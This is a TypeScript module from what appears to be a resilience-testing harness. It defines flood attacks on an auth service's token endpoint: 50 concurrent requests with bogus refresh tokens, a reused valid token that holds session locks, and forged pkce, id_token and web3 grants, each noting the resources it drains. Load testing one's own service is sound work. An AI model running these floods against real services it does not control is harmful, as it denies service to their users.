/** Refreshes and other calls of POST /token that need no password. */
import type { Attack } from '../../attacker/attack.ts';
import { apiHeaders, flood } from '../../attacker/http.ts';

const PATH = '/auth/v1/token?grant_type=';

/** Sends unknown refresh tokens. */
export const refreshWrong: Attack = {
  name: 'auth/refresh-wrong',
  description: 'unknown refresh tokens, 50 requests at once',
  cost: 'a transaction per request, from the pool that sign-ins share',
  run: (context) =>
    flood(context, {
      sockets: 50,
      request: (index) => ({
        path: `${PATH}refresh_token`,
        headers: apiHeaders(context),
        body: JSON.stringify({ refresh_token: `wrong${String(index).padStart(7, '0')}` }),
      }),
    }),
};

/** Sends one refresh token from many sockets: requests of one session wait for each other. */
export const refreshSame: Attack = {
  name: 'auth/refresh-same',
  description: 'one valid refresh token again and again, 50 requests at once',
  cost: 'connections that wait for the lock of one session, up to 5 s each',
  run: (context) => {
    const body = JSON.stringify({ refresh_token: context.accounts[0]?.refreshToken });
    return flood(context, {
      sockets: 50,
      request: () => ({ path: `${PATH}refresh_token`, headers: apiHeaders(context), body }),
    });
  },
};

/** Requests tokens with grants that need no account. */
export const otherGrants: Attack = {
  name: 'auth/other-grants',
  description: 'pkce, id_token and web3 grants with invented proofs, 50 requests at once',
  cost: 'queries, signature checks and, for ID tokens, requests to their issuers',
  run: (context) => {
    const bodies = [
      ['pkce', { auth_code: crypto.randomUUID(), code_verifier: 'v'.repeat(64) }],
      ['id_token', { id_token: idToken(), provider: 'google' }],
      ['web3', { chain: 'ethereum', message: 'm'.repeat(5000), signature: `0x${'1'.repeat(130)}` }],
    ] as const;
    return flood(context, {
      sockets: 50,
      request: (index) => {
        const [grant, body] = bodies[index % bodies.length] ?? bodies[0];
        return { path: PATH + grant, headers: apiHeaders(context), body: JSON.stringify(body) };
      },
    });
  },
};

function idToken(): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${encode({ alg: 'RS256', kid: 'x' })}.${encode({ iss: 'https://accounts.google.com' })}.${'A'.repeat(342)}`;
}
